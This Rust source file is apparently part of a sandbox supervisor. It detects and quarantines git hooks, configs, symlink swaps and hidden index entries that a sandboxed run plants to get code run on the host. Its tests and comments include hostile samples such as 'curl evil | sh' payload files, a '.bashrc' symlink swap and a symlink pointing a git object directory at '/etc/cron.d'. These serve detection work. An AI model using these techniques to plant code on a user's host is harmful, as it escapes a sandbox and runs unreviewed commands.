    let parent_is_git_dir = |p: &Path| p == dir || known.contains(p);
    // git-lfs's store (`lfs/objects/ab/cd/<oid>`).
    let lfs = |d: &Path| {
        d.file_name().is_some_and(|n| n == "objects")
            && d.parent()
                .is_some_and(|p| p.file_name().is_some_and(|n| n == "lfs"))
    };
    // An object store of a git dir: its `objects`, or its git-lfs store.
    let store = |d: &Path| {
        let git_dir = if lfs(d) {
            d.parent().and_then(Path::parent)
        } else {
            d.parent()
        };
        d.file_name().is_some_and(|n| n == "objects") && git_dir.is_some_and(parent_is_git_dir)
    };
    // The hooks: every new entry there is a hook, which the protected paths' rules refuse or
    // quarantine whatever its kind; the user's own hooks are often links.
    let hooks = |d: &Path| {
        d.file_name().is_some_and(|n| n == "hooks") && d.parent().is_some_and(parent_is_git_dir)
    };
    let mut out = Vec::new();
    // Each directory with whether it or one above it (below `dir`) changed, and where it is
    // as to object stores.
    let mut todo = vec![(dir.to_path_buf(), false, Store::No)];
    while let Some((d, moved_above, in_store)) = todo.pop() {
        let moved = moved_above || (d != dir && changed(&d));
        // In an object store only its own entries, and those of its `pack` and `info` (and
        // of git-lfs's fan-out) when they changed, are looked at: a link there made git write
        // its objects, packs or commit-graph into a host directory (red team, fourth pass:
        // `objects/ab -> /etc/cron.d`); git reads through a link in a fan-out directory of
        // loose objects but writes nothing through one.
        if in_store == Store::Inner && !moved {
            continue;
        }
        // A directory with no subdirectories (a link count of 2) that neither changed nor
        // lies in one that did holds nothing of the run's: not listed (`refs/heads`,
        // `logs/refs/heads` of many branches). A file system that counts no subdirectories
        // in links (1) has every directory listed.
        if started.is_some()
            && !moved
            && d != dir
            && in_store == Store::No
            && host.stat(&d).is_some_and(|e| e.links == 2)
        {
            continue;
        }
        let entries = match host.try_list_dir(&d) {
            Ok(entries) => entries,
            Err(e) if matches!(e.raw_os_error(), Some(libc::ENOENT) | Some(libc::ENOTDIR)) => {
                continue
            }
            Err(e) => {
                out.push(uninspectable(root, &d, &e, run_id));
                continue;
            }
        };
        for (name, kind) in entries {
            let path = d.join(&name);
            match kind {
                Kind::Dir if hooks(&path) => {}
                Kind::Dir if store(&path) => todo.push((path, moved, Store::Root)),
                Kind::Dir => match in_store {
                    Store::No => todo.push((path, moved, Store::No)),
                    Store::Root if name == "pack" || name == "info" || lfs(&d) => {
                        todo.push((path, moved, Store::Inner))
                    }
                    Store::Inner if d.parent().is_some_and(lfs) => {
                        todo.push((path, moved, Store::Inner))
                    }
                    _ => {}
                },
                Kind::Symlink | Kind::Other if moved || changed(&path) => {
                    out.push(quarantine(root, &path, run_id, LINK_IN_GIT_DIR));
                }
                _ => {}
            }
        }
    }
    out
}

/// What to do about a [`GIT_STATE_ARMED`] file: no policy line lets a run do this.
const GIT_STATE_HINT: &str = "the run left a command there that git would run on the host when the rebase or cherry-pick goes on (an `exec` line, a merge strategy not git's own); read the quarantined copy, then put it back only if you wrote that line yourself, or `git rebase --abort` (`git cherry-pick --abort`)";

/// Violation kind of a protected path that is another file after the run than before it.
pub const PROTECTED_PATH_REPLACED: &str = "protected_path_replaced";

/// For a backend whose read-only mounts move with a renamed parent (gVisor's Sentry lets a
/// directory holding mount points be renamed; the host kernel refuses with `EBUSY`): every
/// protected path and pinned directory of the plan that is not the same file after the run
/// as when planned. One that is another file (`mv .git .old; mkdir .git; ...` leaves a new
/// config and hooks at the old names) is quarantined; one that is gone is reported, with where
/// to look. Paths inside an already quarantined one are skipped.
pub fn replaced_protected(
    run: &Resolved,
    host: &dyn HostView,
    run_id: &str,
    staged: &[PathBuf],
) -> Vec<Violation> {
    let mut out = Vec::new();
    let mut moved: Vec<PathBuf> = Vec::new();
    let mut paths: Vec<&PathBuf> = (run.spec.protected.iter())
        .chain(&run.spec.pins)
        .filter(|p| !staged.contains(p))
        .collect();
    paths.sort();
    paths.dedup();
    for path in paths {
        let Some(root) = run.watch.sweep.roots.iter().find(|r| is_within(path, r)) else {
            continue;
        };
        if moved.iter().any(|m| is_within(path, m)) {
            continue;
        }
        let Some(&(dev, ino)) = run.spec.identities.get(path) else {
            continue;
        };
        // A symbolic link now at the name is another file whatever it points to.
        let now = match host.lstat_kind(path) {
            None => None,
            Some(Kind::Symlink) => Some((0, 0)),
            Some(_) => host.stat(path).map(|e| (e.dev, e.ino)),
        };
        if now == Some((dev, ino)) {
            continue;
        }
        // Where the original went (renamed within the root by the run), found by identity.
        let original = find_by_identity(host, root, path, (dev, ino));
        let mut what = Vec::new();
        if now.is_some() {
            let v = quarantine(root, path, run_id, PROTECTED_PATH_REPLACED);
            what.push(format!("the file at its name since the run: {}", v.action));
            moved.push(path.clone());
        }
        match original {
            Some(from) => match move_back(root, &from, path) {
                Ok(()) => what.push(format!("the original moved back from {}", from.display())),
                Err(e) => what.push(format!(
                    "the original is at {} and could not be moved back: {e}",
                    from.display()
                )),
            },
            None => what.push("the original was not found in the writable root".into()),
        }
        out.push(Violation {
            allow: None,
            code: sandbox::Code::SandboxViolation,
            kind: PROTECTED_PATH_REPLACED,
            path: path.clone(),
            action: format!(
                "it was not the file it was before the run (a parent renamed): {}",
                what.join("; ")
            ),
        });
    }
    out
}

/// Every protected path that was a symbolic link at the start and is a link holding another
/// target after the run, or leading elsewhere. Under gVisor nothing refuses
/// `rm ~/.bashrc; ln -s evil.sh ~/.bashrc` during the run (a mount cannot cover a link; its
/// target's read-only bind does not stop the name from being replaced), and the sweep's walk
/// compares kinds: a link is still a link, so the host would source `evil.sh`.
///
/// A link made again with the same target is the same link to everything that follows it
/// (its own inode is not compared). One with another target is quarantined and the original
/// target written at its name again, relative to a descriptor of its directory (`symlinkat`,
/// after `readlinkat` of the link itself: nothing the run made is followed). One that holds
/// its target but leads elsewhere (a link on its way was changed, or the target it dangled to
/// was made) is quarantined without being made again: the same target would lead to the same
/// place. A protected link that is gone or no longer a link is the sweep's: a removal runs
/// nothing, a new file or directory at the name is a created protected path.
///
/// Returns the violations and the links made again (new, but not the run's).
pub fn replaced_links(
    run: &Resolved,
    host: &dyn HostView,
    run_id: &str,
) -> (Vec<Violation>, Vec<PathBuf>) {
    let mut out = Vec::new();
    let mut restored = Vec::new();
    for (path, before) in &run.watch.sweep.links {
        let Some(root) = run.watch.sweep.roots.iter().find(|r| is_within(path, r)) else {
            continue;
        };
        if host.lstat_kind(path) != Some(Kind::Symlink) {
            continue;
        }
        let rel = relative(root, path);
        let now = match read_link_beneath(root, rel) {
            Ok(t) => t,
            // Not readable as a link through the root (a link on the way to it): not the
            // path the plan saw, taken out as replaced.
            Err(e) => PathBuf::from(format!("<unreadable: {e}>")),
        };
        let same_target = now == before.target;
        let leads = host.canonicalize(path);
        if same_target && leads == before.resolves {
            continue;
        }
        let shown = |p: &Option<PathBuf>| match p {
            Some(p) => p.display().to_string(),
            None => "nothing (dangling)".to_string(),
        };
        let v = quarantine(root, path, run_id, PROTECTED_PATH_REPLACED);
        let mut what = vec![format!(
            "the link at its name since the run (to {}): {}",
            now.display(),
            v.action
        )];
        if same_target {
            what.push(format!(
                "it holds its target {} still but leads to {} instead of {} (a link on its \
                 way changed, or the run made what it pointed to): not made again, check \
                 {} and make it by hand",
                before.target.display(),
                shown(&leads),
                shown(&before.resolves),
                before.target.display()
            ));
        } else {
            match make_link_beneath(root, rel, &before.target) {
                Ok(()) if host.canonicalize(path) == before.resolves => {
                    what.push(format!(
                        "the original link (to {}) made again",
                        before.target.display()
                    ));
                    restored.push(path.clone());
                }
                Ok(()) => {
                    let removed = remove_planted(root, rel);
                    what.push(format!(
                        "the original link (to {}) would lead to {} instead of {} (a link on \
                         its way changed too): {}; make it by hand",
                        before.target.display(),
                        shown(&host.canonicalize(path)),
                        shown(&before.resolves),
                        match removed {
                            Ok(()) => "not made again".to_string(),
                            Err(e) => format!("it could not be removed ({e}), remove it"),
                        }
                    ));
                }
                Err(e) => what.push(format!(
                    "the original link (to {}) could not be made again: {e}",
                    before.target.display()
                )),
            }
        }
        out.push(Violation {
            allow: None,
            code: sandbox::Code::SandboxViolation,
            kind: PROTECTED_PATH_REPLACED,
            path: path.clone(),
            action: format!(
                "a protected link was replaced during the run: {}",
                what.join("; ")
            ),
        });
    }
    (out, restored)
}

/// `readlinkat` of `root/rel` relative to its directory, opened through no link.
fn read_link_beneath(root: &Path, rel: &Path) -> std::io::Result<PathBuf> {
    let r = Root::open_exact(root)?;
    let name = rel
        .file_name()
        .ok_or_else(|| std::io::Error::other("not a file below the root"))?;
    let dir = r.dir(rel.parent().unwrap_or(Path::new("")))?;
    read_link_child(dir.as_fd(), name).map(PathBuf::from)
}

/// The symbolic link `root/rel` holding `target`, made relative to its directory (opened
/// through no link), replacing nothing; a directory the run closed is opened up for it.
fn make_link_beneath(root: &Path, rel: &Path, target: &Path) -> std::io::Result<()> {
    let parent = rel.parent().unwrap_or(Path::new(""));
    opening_up(root, &[parent], || {
        let r = Root::open_exact(root)?;
        let name = rel
            .file_name()
            .ok_or_else(|| std::io::Error::other("not a file below the root"))?;
        let dir = r.dir(parent)?;
        symlink_child(target.as_os_str(), dir.as_fd(), name)
    })
}

/// The entry of `root` (not a symbolic link) that is the file `(dev, ino)`, looked for first
/// beside `path`, then in the whole root (up to a bound: a large workspace is not walked
/// whole for this).
fn find_by_identity(
    host: &dyn HostView,
    root: &Path,
    path: &Path,
    id: (u64, u64),
) -> Option<PathBuf> {
    const LIMIT: usize = 200_000;
    let is_it = |p: &Path| {
        !matches!(host.lstat_kind(p), None | Some(Kind::Symlink))
            && host.stat(p).is_some_and(|e| (e.dev, e.ino) == id)
    };
    let mut seen = 0usize;
    // Popped last to first: beside `path` first, then the whole root.
    let mut stack: Vec<PathBuf> = vec![root.to_path_buf()];
    stack.extend(path.parent().map(Path::to_path_buf));
    while let Some(dir) = stack.pop() {
        for (name, kind) in host.list_dir(&dir) {
            seen += 1;
            if seen > LIMIT {
                return None;
            }
            let p = dir.join(&name);
            if is_it(&p) {
                return Some(p);
            }
            // Every directory, `.stockade` ones too: the run may have moved the original into
            // one (found by review: the trust store hidden in `a/.stockade/` was not found).
            if kind == Kind::Dir {
                stack.insert(0, p);
            }
        }
    }
    None
}

/// Renames `from` to `to` (both in `root`), never replacing anything and through no link.
fn move_back(root: &Path, from: &Path, to: &Path) -> std::io::Result<()> {
    let r = Root::open_exact(root)?;
    let (from_rel, to_rel) = (relative(root, from), relative(root, to));
    let name = |p: &Path| {
        p.file_name()
            .map(|n| n.to_os_string())
            .ok_or_else(|| std::io::Error::other("not a file below the root"))
    };
    let from_dir = r.dir(from_rel.parent().unwrap_or(Path::new("")))?;
    let to_dir = r.dir(to_rel.parent().unwrap_or(Path::new("")))?;
    move_no_replace(
        from_dir.as_fd(),
        &name(from_rel)?,
        to_dir.as_fd(),
        &name(to_rel)?,
    )
}

/// For a backend without the creation guard (gVisor): the guard's own rules applied after the
/// run to what the run made (with the guard, [`after_run`] looks only at what others made
/// where git looks). The sweep above covers the policy's protected names; this covers
/// git's paths that the guard refuses (`info/attributes`, `hooks`, `config.worktree`,
/// `worktrees/*/commondir` of every git dir, a missing `core.hooksPath` directory or
/// `include.path` target, ...), which the sweep's walk does not enter. An exact path that did
/// not exist at the start, or an entry under a pattern's base changed since `started` (its
/// ctime), is quarantined. Run after [`replaced_protected`] (on the restored tree).
pub fn guard_after_run(
    run: &Resolved,
    host: &dyn HostView,
    run_id: &str,
    started: std::time::SystemTime,
) -> Vec<Violation> {
    guard_after(run, host, run_id, started, &[], &[])
}

/// [`guard_after_run`], leaving alone the protected links in `restored` (made again by
/// [`replaced_links`]: new, but the user's own) and the `staged` paths (an existing config
/// the backend judged and rewrote in place: its ctime is new, the file is not).
fn guard_after(
    run: &Resolved,
    host: &dyn HostView,
    run_id: &str,
    started: std::time::SystemTime,
    restored: &[PathBuf],
    staged: &[PathBuf],
) -> Vec<Violation> {
    let mut out = Vec::new();
    let new_since = |p: &Path| host.lstat_ctime(p).is_some_and(|t| t >= started);
    let mut found: BTreeSet<PathBuf> = BTreeSet::new();
    let mut unlisted: Vec<(PathBuf, std::io::Error)> = Vec::new();
    for g in &run.spec.guard {
        // `root/**/name` patterns are the policy's protected names, which the sweep finds
        // (walking only the directories that changed); every other pattern is git's: paths
        // of its git dirs whatever their names (`--separate-git-dir`, bare repositories),
        // `core.hooksPath` directories, `include.path` targets, worktree files.
        if !g.tail.is_empty() && run.watch.sweep.roots.contains(&g.base) {
            continue;
        }
        if g.tail.is_empty() {
            // stockade's own directory, the same one as at the start: what changed in it is
            // the supervisor's (the command never saw inside it).
            let own = run.watch.sweep.own.get(&g.base).is_some_and(|id| {
                host.lstat_kind(&g.base) == Some(Kind::Dir)
                    && host.stat(&g.base).is_some_and(|e| (e.dev, e.ino) == *id)
            });
            if own {
                continue;
            }
            let existed = run.watch.sweep.existing.contains_key(&g.base)
                || run.spec.protected.contains(&g.base);
            if host.lstat_kind(&g.base).is_some() && (!existed || new_since(&g.base)) {
                found.insert(g.base.clone());
            }
            continue;
        }
        // base/**/tail: a shallow walk under base (git's own directories are small).
        let mut stack = vec![(g.base.clone(), 0usize)];
        while let Some((dir, depth)) = stack.pop() {
            let entries = match host.try_list_dir(&dir) {
                Ok(entries) => entries,
                Err(e) => {
                    if !matches!(e.raw_os_error(), Some(libc::ENOENT) | Some(libc::ENOTDIR))
                        && !closed_since_before(run.watch.sweep.dirs.settled_before(), host, &dir)
                        && !in_or_is_closed(run, host, &dir)
                    {
                        unlisted.push((dir, e));
                    }
                    continue;
                }
            };
            for (name, kind) in entries {
                let path = dir.join(&name);
                let comps: Vec<&[u8]> = path.iter().map(|c| c.as_encoded_bytes()).collect();
                let matches = comps.len() >= g.tail.len()
                    && g.tail
                        .iter()
                        .rev()
                        .zip(comps.iter().rev())
                        .all(|(t, c)| protect::wildcard_match(t.as_bytes(), c));
                if matches && new_since(&path) {
                    found.insert(path.clone());
                } else if kind == Kind::Dir && depth < 4 {
                    stack.push((path, depth + 1));
                }
            }
        }
    }
    found.retain(|p| !staged.contains(p));
    let mut moved = quarantine_created(&run.watch.sweep.roots, found, restored, run_id, &mut out);
    for (dir, e) in unlisted {
        if moved.iter().any(|m| is_within(&dir, m)) {
            continue;
        }
        let Some(root) = run.watch.sweep.roots.iter().find(|r| is_within(&dir, r)) else {
            continue;
        };
        out.push(uninspectable(root, &dir, &e, run_id));
        moved.push(dir);
    }
    out
}

/// Violation kind of index entries a run made git stop checking for changes.
pub const GIT_CHANGES_HIDDEN: &str = "git_changes_hidden";

/// Entries of a repository's index that the run marked `skip-worktree` or `assume-unchanged`
/// (see [`crate::git_index`]): git no longer shows their changes, so the user's review after
/// the run would miss them. Reported with the names and how to undo it; the index is left as
/// it is (rewriting it is git's job, and running git here could run a config the run made).
fn hidden_changes(run: &Resolved, host: &dyn HostView) -> Vec<Violation> {
    let mut out = Vec::new();
    for index in &run.watch.sweep.git_indexes {
        let Some(after) = host
            .read_bytes(&index.path, crate::GIT_INDEX_LIMIT)
            .and_then(|d| crate::git_index::hidden_entries(&d, index.hash_len))
        else {
            continue;
        };
        let new: Vec<&String> = after.difference(&index.hidden).collect();
        if new.is_empty() {
            continue;
        }
        let shown: Vec<&str> = new.iter().take(10).map(|s| s.as_str()).collect();
        let more = if new.len() > shown.len() {
            format!(" and {} more", new.len() - shown.len())
        } else {
            String::new()
        };
        out.push(Violation {
            allow: None,
            code: sandbox::Code::SandboxViolation,
            kind: GIT_CHANGES_HIDDEN,
            path: index.path.clone(),
            action: format!(
                "the run marked {} index entr{} skip-worktree or assume-unchanged, so git status and git diff no longer show changes to: {}{more}; review them and undo with `git update-index --no-skip-worktree --no-assume-unchanged -- PATH` (or `git sparse-checkout disable`); `git ls-files -v | grep -v '^H'` lists them",
                new.len(),
                if new.len() == 1 { "y" } else { "ies" },
                shown.join(", "),
            ),
        });
    }
    out
}

/// Where `link` leads on the host, symlinks resolved; for a dangling link, the missing path
/// it names (`key -> ~/.ssh/id_ed25519` before that key exists lies in a masked directory
/// all the same). `None` when a directory on the way cannot be resolved.
fn resolve_link(host: &dyn HostView, link: &Path) -> Option<PathBuf> {
    let mut path = link.to_path_buf();
    // As the kernel: at most 40 links on the way.
    for _ in 0..40 {
        if let Some(target) = host.canonicalize(&path) {
            return Some(target);
        }
        let parent = host.canonicalize(path.parent()?)?;
        let here = parent.join(path.file_name()?);
        match std::fs::read_link(&here) {
            Ok(next) => path = policy::normalize_lexically(&parent.join(next)),
            Err(_) => return Some(here),
        }
    }
    None
}

/// A symlink made during the run (its ctime is not older than the plan) that resolves, on
/// the host, into a masked or emptied path: the sandbox could not read through it, but the
/// agent's host-side tools would.
fn new_link_into_mask(run: &Resolved, host: &dyn HostView, link: &Path) -> bool {
    // Only a local filesystem's ctimes come from this machine's clock (see `DirStamps`).
    let local = link.parent().is_some_and(|p| host.local_ctime(p));
    // The ctime of a link the command made is later than the plan's start: the run's set-up
    // alone takes longer than the coarse clock that stamps ctimes lags the precise one.
    let made_before_run = match (host.lstat_ctime(link), run.watch.sweep.dirs.taken_at) {
        (Some(ctime), Some(start)) if local => ctime < start,
        _ => false,
    };
    if made_before_run {
        return false;
    }
    let Some(target) = resolve_link(host, link) else {
        return false;
    };
    (run.spec.masks.iter()).any(|m| is_within(&target, &m.path))
}

/// Takes out `path` (named by [`planted_git::is_code_name`]) of a git dir assembled during the
/// run: a config unless it is inert, every hook but `*.sample`, a `commondir`.
fn neutralise_code_path(
    host: &dyn HostView,
    (root, path): (&Path, &Path),
    run_id: &str,
    writable: &[&[u8]],
) -> Vec<Violation> {
    let kind = planted_git::PLANTED_GIT_DIR;
    let Some(found) = host.lstat_kind(path) else {
        return Vec::new();
    };
    let name = path.file_name().unwrap_or_default();
    if name == "hooks" && found == Kind::Dir {
        match host.try_list_dir(path) {
            Ok(hooks) => hooks
                .into_iter()
                .filter(|(n, _)| !n.to_string_lossy().ends_with(".sample"))
                .map(|(n, _)| quarantine(root, &path.join(n), run_id, kind))
                .collect(),
            Err(e) => vec![uninspectable(root, path, &e, run_id)],
        }
    } else if (name == "config" || name == "config.worktree") && found == Kind::File {
        neutralise_config(host, (root, path), run_id, kind, writable)
            .into_iter()
            .collect()
    } else {
        vec![quarantine(root, path, run_id, kind)]
    }
}

/// A new git config stays when it only holds keys that run nothing (its write bit given
/// back); otherwise it is quarantined and replaced with a minimal one.
fn neutralise_config(
    host: &dyn HostView,
    (root, path): (&Path, &Path),
    run_id: &str,
    kind: &'static str,
    writable: &[&[u8]],
) -> Option<Violation> {
    let opened = open_git_config(root, path);
    if let Some((fd, text)) = &opened {
        if git_config_is_inert(text, writable) {
            give_back_write_bit(fd);
            return None;
        }
    }
    let mut v = quarantine(root, path, run_id, kind);
    // Only once the original is gone, and never through a symlink: created `O_EXCL` in its
    // directory, reached through no link.
    if host.lstat_kind(path).is_none() && write_minimal_config(root, path).is_ok() {
        v.action.push_str("; replaced with a minimal config");
    }
    Some(v)
}

/// Largest `.git/config` the sweep reads to decide whether it is inert (a larger one is
/// quarantined).
const MAX_GIT_CONFIG: u64 = 1 << 20;

/// `root`-relative form of `path` (a path outside `root` stays absolute, and every open below
/// refuses it: `RESOLVE_BENEATH`).
fn relative<'a>(root: &Path, path: &'a Path) -> &'a Path {
    path.strip_prefix(root).unwrap_or(path)
}

/// The new `.git/config`, opened through no link, if it is a regular file with one link (a
/// hard link would make its mode shared with another file), and its text.
fn open_git_config(root: &Path, path: &Path) -> Option<(OwnedFd, Vec<u8>)> {
    let fd = Root::open_exact(root)
        .and_then(|r| r.open_beneath(relative(root, path), OFlags::RDONLY | OFlags::NONBLOCK))
        .ok()?;
    let st = rustix::fs::fstat(&fd).ok()?;
    if FileType::from_raw_mode(st.st_mode) != FileType::RegularFile || st.st_nlink != 1 {
        return None;
    }
    let mut text = Vec::new();
    let file = std::fs::File::from(fd.try_clone().ok()?);
    file.take(MAX_GIT_CONFIG + 1).read_to_end(&mut text).ok()?;
    if text.len() as u64 > MAX_GIT_CONFIG {
        return None;
    }
    Some((fd, text))
}

/// The creation guard made a new config read-only during the run (mode 0444); give the
/// owner its write bit back, as git itself would have left it.
fn give_back_write_bit(fd: &OwnedFd) {
    if let Ok(st) = rustix::fs::fstat(fd) {
        let mode = st.st_mode & 0o7777;
        if mode & 0o200 == 0 {
            let _ = rustix::fs::fchmod(fd, Mode::from_raw_mode(mode | 0o200));
        }
    }
}

fn write_minimal_config(root: &Path, path: &Path) -> std::io::Result<()> {
    let rel = relative(root, path);
    let (Some(dir), Some(name)) = (rel.parent(), rel.file_name()) else {
        return Err(std::io::Error::other("not a file below the root"));
    };
    let dir = Root::open_exact(root)?.dir(dir)?;
    let fd = rustix::fs::openat(
        &dir,
        name,
        OFlags::WRONLY | OFlags::CREATE | OFlags::EXCL | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::from_raw_mode(0o644),
    )
    .map_err(|e| std::io::Error::from_raw_os_error(e.raw_os_error()))?;
    std::fs::File::from(fd).write_all(MINIMAL_GIT_CONFIG.as_bytes())
}

/// Moves `path` to `<root>/.stockade/quarantine/<run-id>/<relative path>`, relative to a
/// descriptor of the root, through no symbolic link and replacing nothing (see
/// [`crate::beneath`]).
fn quarantine(root: &Path, path: &Path, run_id: &str, kind: &'static str) -> Violation {
    let rel = relative(root, path);
    // The run's own quarantine first; when the way there is taken (an earlier move of this
    // run put a file where this path needs a directory: `.git` quarantined as a file, then a
    // hook of the `.git` directory moved back in its place), a fresh one beside it. A path
    // that cannot be moved anywhere is never left armed: a file or link is removed.
    let mut tried = Vec::new();
    let mut moved_to = None;
    for attempt in 0..4 {
        let id = match attempt {
            0 => run_id.to_string(),
            n => format!("{run_id}-{n}"),
        };
        let qrel = Path::new(".stockade").join("quarantine").join(id);
        match move_into(root, path, rel, &qrel, run_id) {
            Ok(()) => {
                moved_to = Some(root.join(&qrel).join(rel));
                break;
            }
            Err(e) => tried.push(e.to_string()),
        }
    }
    let action = match moved_to {
        Some(dest) => format!("moved to {}", dest.display()),
        None => match remove_planted(root, rel) {
            Ok(()) => format!(
                "could not be moved to the quarantine ({}), so it was removed",
                tried.join("; ")
            ),
            Err(e) => format!(
                "could not be moved to the quarantine ({}) nor removed ({e}); remove it by hand",
                tried.join("; ")
            ),
        },
    };
    Violation {
        allow: None,
        code: sandbox::Code::SandboxViolation,
        kind,
        path: path.to_path_buf(),
        action,
    }
}

/// Runs `act`; refused by permission (the run left a directory on the way without its
/// owner's write or search bit: `chmod 555`, `111`), once more with the directories `rels`
/// and the ways to them opened up ([`Opened`]), their modes put back after.
fn opening_up<T>(
    root: &Path,
    rels: &[&Path],
    act: impl Fn() -> std::io::Result<T>,
) -> std::io::Result<T> {
    match act() {
        Err(e) if is_denied(&e) => {
            let r = Root::open_exact(root)?;
            let mut opened = Opened::default();
            for rel in rels {
                // As far as it goes: the second try says whether it was enough.
                let _ = opened.open_up(root, &r, rel);
            }
            act()
        }
        done => done,
    }
}

/// Moves `root/rel` (that is `path`) to `root/qrel/rel`, through no link. A directory
/// without its owner's bits is opened up for the move (a directory moved to another parent
/// needs its own write bit, for its `..`) and keeps its mode in the quarantine.
fn move_into(
    root: &Path,
    path: &Path,
    rel: &Path,
    qrel: &Path,
    run_id: &str,
) -> std::io::Result<()> {
    let parent = rel.parent().unwrap_or(Path::new(""));
    let to = qrel.join(parent);
    opening_up(root, &[parent, rel, &to], || {
        move_into_once(root, path, rel, qrel, run_id)
    })
}

fn move_into_once(
    root: &Path,
    path: &Path,
    rel: &Path,
    qrel: &Path,
    run_id: &str,
) -> std::io::Result<()> {
    let dest = root.join(qrel).join(rel);
    let r = Root::open_exact(root)?;
    let Some(name) = rel.file_name() else {
        return Err(std::io::Error::other("not a file below the root"));
    };
    let parent = rel.parent().unwrap_or(Path::new(""));
    let mut from_dir = r.dir(parent)?;
    let mut from_name: OsString = name.to_os_string();
    // The sandbox may itself have created `.stockade` (a link, say): move it aside first.
    if is_within(&dest, path) {
        let aside = OsString::from(format!(".stockade-{run_id}"));
        move_no_replace(from_dir.as_fd(), &from_name, r.fd(), &aside)?;
        from_dir = r.dir(Path::new(""))?;
        from_name = aside;
    }
    let to_dir = r.create_dirs(&qrel.join(parent))?;
    move_no_replace(from_dir.as_fd(), &from_name, to_dir.as_fd(), name)
}

/// Removes `root/rel` when it is not a directory (a hook, a config, a link), through no link.
fn remove_planted(root: &Path, rel: &Path) -> std::io::Result<()> {
    let parent = rel.parent().unwrap_or(Path::new(""));
    opening_up(root, &[parent], || remove_planted_once(root, rel))
}

fn remove_planted_once(root: &Path, rel: &Path) -> std::io::Result<()> {
    let r = Root::open_exact(root)?;
    let name = rel
        .file_name()
        .ok_or_else(|| std::io::Error::other("not a file below the root"))?;
    let dir = r.dir(rel.parent().unwrap_or(Path::new("")))?;
    rustix::fs::unlinkat(&dir, name, rustix::fs::AtFlags::empty()).map_err(std::io::Error::from)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::host::RealHost;
    use std::os::unix::fs::PermissionsExt;

    fn plan_for(ws: &Path) -> Resolved {
        crate::spec::resolved_on_this_machine(ws)
    }

    /// The sandbox plants `.stockade -> OUTSIDE` and a hook: the supervisor must not create
    /// or move anything through the link.
    #[test]
    fn planted_stockade_symlink_does_not_redirect_the_quarantine() {
        let tmp = tempfile::tempdir().unwrap();
        let ws = std::fs::canonicalize(tmp.path()).unwrap().join("ws");
        let outside = ws.parent().unwrap().join("outside");
        std::fs::create_dir_all(&ws).unwrap();
        std::fs::create_dir_all(&outside).unwrap();
        let plan = plan_for(&ws);
        // What the sandbox did during the run:
        std::os::unix::fs::symlink(&outside, ws.join(".stockade")).unwrap();
        std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
        std::fs::write(ws.join(".git/hooks/pre-commit"), "evil").unwrap();
        let violations = sweep(&plan, &RealHost, "run1");
        assert!(
            std::fs::read_dir(&outside).unwrap().next().is_none(),
            "nothing written outside"
        );
        assert!(!ws.join(".git/hooks/pre-commit").exists(), "{violations:?}");
        assert!(ws
            .join(".stockade/quarantine/run1/.git/hooks/pre-commit")
            .exists());
        assert!(std::fs::symlink_metadata(ws.join(".stockade"))
            .unwrap()
            .is_dir());
        // The planted link itself is reported (and quarantined) too.
        assert!(violations.iter().any(|v| v.path == ws.join(".stockade")));
    }

    /// The run's quarantine already holds a file where a path's way needs a directory (the
    /// gVisor restore quarantined a `.git` file, then moved the original `.git` back, with a
    /// hook planted in it): the hook goes to a fresh quarantine, never stays armed. Without the
    /// fresh one it stayed in place ("remove it by hand") and host git ran it.
    #[test]
    fn a_hook_whose_quarantine_path_is_taken_goes_to_a_fresh_one() {
        let tmp = tempfile::tempdir().unwrap();
        let ws = std::fs::canonicalize(tmp.path()).unwrap().join("ws");
        make_git_dir(&ws.join(".git"));
        let plan = plan_for(&ws);
        std::fs::create_dir_all(ws.join(".stockade/quarantine/run1")).unwrap();
        std::fs::write(ws.join(".stockade/quarantine/run1/.git"), "junk").unwrap();
        std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
        std::fs::write(ws.join(".git/hooks/post-checkout"), "evil").unwrap();
        let violations = sweep_skipping(&plan, &RealHost, "run1", &[ws.join(".stockade")]);
        assert!(
            !ws.join(".git/hooks/post-checkout").exists(),
            "{violations:?}"
        );
        assert!(ws
            .join(".stockade/quarantine/run1-1/.git/hooks/post-checkout")
            .exists());
        assert!(violations.iter().any(|v| v.action.contains("run1-1")));
    }

    /// A protected `.envrc` that is a link (`-> envrc.shared`), replaced during the run by a
    /// link to the run's own file: quarantined and the original link made again. Controls: a
    /// link made again with the same target is left alone; before the fix (kinds compared
    /// only) the swap stayed. A link that holds its target but leads elsewhere (a directory
    /// link on its way retargeted) is quarantined and not made again.
    #[test]
    fn a_protected_link_swapped_for_another_is_put_back() {
        use std::os::unix::fs::symlink;
        let held = Held {
            creation_guard: false,
            pinned: false,
        };
        let tmp = tempfile::tempdir().unwrap();
        let ws = std::fs::canonicalize(tmp.path()).unwrap().join("ws");
        std::fs::create_dir_all(&ws).unwrap();
        std::fs::write(ws.join("envrc.shared"), "export A=1\n").unwrap();
        symlink("envrc.shared", ws.join(".envrc")).unwrap();
        let plan = plan_for(&ws);
        let started = std::time::SystemTime::now();
        // The swap.
        std::fs::write(ws.join("evil.sh"), "curl evil | sh\n").unwrap();
        std::fs::remove_file(ws.join(".envrc")).unwrap();
        symlink("evil.sh", ws.join(".envrc")).unwrap();
        let v = after_run(&plan, &RealHost, "swap", held, started, &[]);
        assert_eq!(
            std::fs::read_link(ws.join(".envrc")).unwrap(),
            Path::new("envrc.shared"),
            "{v:?}"
        );
        assert!(
            v.iter()
                .any(|v| v.kind == PROTECTED_PATH_REPLACED && v.path == ws.join(".envrc")),
            "{v:?}"
        );
        let q = ws.join(".stockade/quarantine/swap/.envrc");
        assert_eq!(std::fs::read_link(q).unwrap(), Path::new("evil.sh"));
        // Nothing else reported the restored link (as created, say).
        assert_eq!(v.len(), 1, "{v:?}");

        // Control: removed and made again with the same target: the same link.
        let plan = plan_for(&ws);
        std::fs::remove_file(ws.join(".envrc")).unwrap();
        symlink("envrc.shared", ws.join(".envrc")).unwrap();
        let v = after_run(&plan, &RealHost, "same", held, started, &[]);
        assert!(v.is_empty(), "{v:?}");
        assert_eq!(
            std::fs::read_link(ws.join(".envrc")).unwrap(),
            Path::new("envrc.shared")
        );

        // The same target through a retargeted directory link: leads elsewhere.
        std::fs::create_dir_all(ws.join("a")).unwrap();
        std::fs::create_dir_all(ws.join("b")).unwrap();
        std::fs::write(ws.join("a/envrc"), "export A=1\n").unwrap();
        std::fs::write(ws.join("b/envrc"), "curl evil | sh\n").unwrap();
        symlink("a", ws.join("shared")).unwrap();
        std::fs::remove_file(ws.join(".envrc")).unwrap();
